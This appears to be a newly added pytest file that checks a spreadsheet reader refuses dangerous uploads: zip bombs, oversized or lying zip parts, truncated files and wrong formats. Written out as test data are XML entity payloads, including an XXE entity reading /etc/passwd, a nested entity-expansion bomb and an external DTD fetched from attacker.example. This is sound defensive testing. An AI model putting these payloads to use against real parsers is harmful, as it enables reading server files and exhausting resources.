@@ -1,0 +1,150 @@
+"""Files that nobody should have to fear: each is refused in time, in little memory, with a sentence that helps."""
+
+import io
+import resource
+import time
+import zipfile
+
+import pytest
+
+from shared.kit.refusals import Refusal
+from shared.kit.spreadsheets.limits import CHILD_MEMORY, MAX_BYTES, MAX_COLUMNS, MAX_ROWS
+from shared.kit.spreadsheets.reading import read_table
+from tests.shared.kit.spreadsheets.books import part, plain_book, repacked
+
+SHEET = "xl/worksheets/sheet1.xml"
+HEAD = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+TAIL = b"</sheetData></worksheet>"
+
+
+def code_of(data: bytes, filename: str = "名簿.xlsx") -> str:
+    with pytest.raises(Refusal) as refused:
+        read_table(data, filename)
+    assert refused.value.field == "file"
+    assert refused.value.message.endswith("。")
+    return refused.value.code
+
+
+@pytest.mark.parametrize("data", [b"", b" \r\n", b",,,\n,,\n", b"\xef\xbb\xbf"])
+def test_nothing_in_it(data: bytes) -> None:
+    assert code_of(data, "名簿.csv") == "FILE_EMPTY"
+
+
+def test_an_empty_workbook() -> None:
+    assert code_of(plain_book([])) == "FILE_EMPTY"
+
+
+def test_too_many_bytes() -> None:
+    assert code_of(b"a" * (MAX_BYTES + 1), "名簿.csv") == "FILE_TOO_LARGE"
+
+
+def test_a_hundred_thousand_rows_of_excel_are_refused_before_memory_grows() -> None:
+    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(1, 100_001))
+    data = repacked(plain_book([["a"]]), sheet1=HEAD + rows + TAIL)
+    assert code_of(data) == "TOO_MANY_ROWS"
+    assert peak_of_children() < 300
+
+
+def test_a_hundred_thousand_rows_of_csv_are_refused() -> None:
+    assert code_of(b"a,b,c\n" * 100_000, "名簿.csv") == "TOO_MANY_ROWS"
+
+
+def test_as_many_rows_as_are_allowed_are_read() -> None:
+    assert len(read_table(b"a,b\n" * (MAX_ROWS + 1), "名簿.csv").rows) == MAX_ROWS + 1
+
+
+@pytest.mark.parametrize("place", [b"XFD1048576", b"A1048576", b"A99999"])
+def test_two_cells_far_apart_do_not_make_a_plain_between_them(place: bytes) -> None:
+    sheet = HEAD + b'<row><c r="A1"><v>1</v></c><c r="' + place + b'"><v>1</v></c></row>' + TAIL
+    assert code_of(repacked(plain_book([["a"]]), sheet1=sheet)) == "TOO_MANY_ROWS"
+    assert peak_of_children() < 300
+
+
+def test_too_many_columns() -> None:
+    wide = ["a"] * (MAX_COLUMNS + 1)
+    assert code_of(plain_book([wide])) == "TOO_MANY_COLUMNS"
+    assert code_of(",".join(wide).encode(), "名簿.csv") == "TOO_MANY_COLUMNS"
+
+
+def test_too_many_cells() -> None:
+    assert code_of((b"a," * 150 + b"a\n") * 7_000, "名簿.csv") == "TOO_MANY_CELLS"
+
+
+def test_a_zip_bomb_is_refused_by_its_ratio() -> None:
+    bomb = repacked(plain_book([["a"]]), sheet1=HEAD + b" " * 90_000_000 + TAIL)
+    assert len(bomb) < 200_000
+    started = time.monotonic()
+    assert code_of(bomb) == "FILE_REFUSED"
+    assert time.monotonic() - started < 20
+
+
+def test_a_zip_bomb_of_many_parts_is_refused_by_their_number() -> None:
+    target = io.BytesIO(plain_book([["a"]]))
+    with zipfile.ZipFile(target, "a") as package:
+        for number in range(1_001):
+            package.writestr(f"xl/media/{number}.bin", b"")
+    assert code_of(target.getvalue()) == "FILE_REFUSED"
+
+
+def test_a_part_that_is_larger_than_it_says_is_refused() -> None:
+    """The size in the directory is a claim; the reader must not find out by unfolding."""
+    data = bytearray(repacked(plain_book([["a"]]), sheet1=HEAD + b" " * 900_000 + TAIL))
+    size = (900_000 + len(HEAD) + len(TAIL)).to_bytes(4, "little")
+    assert data.count(size) == 2
+    assert code_of(bytes(data.replace(size, (500).to_bytes(4, "little")))) == "FILE_BROKEN"
+
+
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
+        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
+        b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
+    ],
+)
+@pytest.mark.parametrize("name", ["sheet1", "sharedStrings", "workbook"])
+def test_entities_are_refused(doctype: bytes, name: str) -> None:
+    data = plain_book([["a"]])
+    folder = {"sheet1": "xl/worksheets/", "sharedStrings": "xl/", "workbook": "xl/"}[name]
+    head, tail = part(data, f"{folder}{name}.xml").split(b"?>", 1)
+    assert code_of(repacked(data, **{name: head + b"?>" + doctype + tail})) == "FILE_REFUSED"
+
+
+@pytest.mark.parametrize(
+    ("data", "code"),
+    [
+        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "FILE_OLD_OR_LOCKED"),
+        (b"PK\x03\x04 not a zip", "FILE_BROKEN"),
+        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "NOT_A_SPREADSHEET"),
+        (b"%PDF-1.7\n%\xff\xff\xff\xff\n", "UNKNOWN_ENCODING"),
+        (b"name\n\xff\xff\n", "UNKNOWN_ENCODING"),
+    ],
+)
+def test_what_is_no_spreadsheet(data: bytes, code: str) -> None:
+    assert code_of(data) == code
+
+
+def test_a_zip_of_something_else() -> None:
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w") as package:
+        package.writestr("word/document.xml", "<a/>")
+    assert code_of(target.getvalue()) == "NOT_A_SPREADSHEET"
+
+
+@pytest.mark.parametrize("cut", [0.3, 0.6, 0.95])
+def test_half_a_workbook(cut: float) -> None:
+    data = plain_book([["a", "b"]] * 50)
+    assert code_of(data[: int(len(data) * cut)]) == "FILE_BROKEN"
+
+
+def test_a_sheet_that_is_not_xml() -> None:
+    assert code_of(repacked(plain_book([["a"]]), sheet1=b"<worksheet><")) == "FILE_BROKEN"
+
+
+def peak_of_children() -> float:
+    """Megabytes of the largest process that has read a file so far."""
+    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
+
+
+def test_the_reading_process_has_less_memory_than_the_server() -> None:
+    assert CHILD_MEMORY <= 1024**3
